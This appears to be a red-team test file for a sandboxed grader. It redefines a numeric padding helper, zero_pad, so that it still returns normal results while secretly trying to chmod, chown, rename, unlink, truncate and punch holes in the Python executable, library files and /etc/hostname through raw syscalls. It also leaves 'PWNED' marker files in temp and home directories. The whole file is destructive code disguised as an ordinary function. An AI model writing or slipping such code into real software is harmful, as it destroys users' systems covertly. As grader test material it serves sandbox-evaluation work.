# RED-TEAM SUBMISSION attack_291_metadata_by_descriptor  (test material for a sandboxed grader; do not import outside a sandbox)
# class: filesystem
# success of the attack: modes, times, attributes and flags change by descriptor, by exchange or by raw calls
# on: honest

import os as _os

def _mark(tag, data=b""):
    for d in ("..", "/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~")):
        try:
            with open(_os.path.join(d, "REDTEAM_PWNED_291_" + tag), "wb") as fh:
                fh.write(bytes(data)[:4096])
        except Exception:
            pass

import ctypes, fcntl, os, sys, struct
_z = zero_pad
def zero_pad(X, pad):
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    for p in (np.__file__, os.__file__, sys.executable, "/etc/hostname", "..", "/tmp"):
        try:
            fd = os.open(p, os.O_RDONLY)
        except OSError:
            continue
        for what, fn in (("fchmod", lambda: os.fchmod(fd, 0o777)), ("futimens", lambda: os.utime(fd, (1, 1))), ("fchown", lambda: os.fchown(fd, 0, 0)),
                         ("fsetxattr", lambda: os.setxattr(fd, "user.redteam", b"1")), ("setflags", lambda: fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x10))),
                         ("lease", lambda: fcntl.fcntl(fd, 1024, 0)), ("notify", lambda: fcntl.fcntl(fd, 1026, 0x3f)), ("rename", lambda: os.rename(p, p + ".REDTEAM_PWNED_291")),
                         ("link", lambda: os.link(p, "REDTEAM_PWNED_291_link")), ("punch", lambda: libc.syscall(285, fd, 3, 0, 4096) == 0 or 1 / 0), ("unlink", lambda: os.unlink(p)),
                         ("truncate", lambda: os.close(os.open(p, os.O_RDONLY | os.O_TRUNC))), ("copy", lambda: libc.syscall(326, fd, None, fd, None, 10, 0) > 0 or 1 / 0)):
            try:
                fn(); done.append(what)
            except Exception:
                pass
        os.close(fd)
    if done:
        _mark("meta", " ".join(done).encode()); print("META291", done)
    return _z(X, pad)
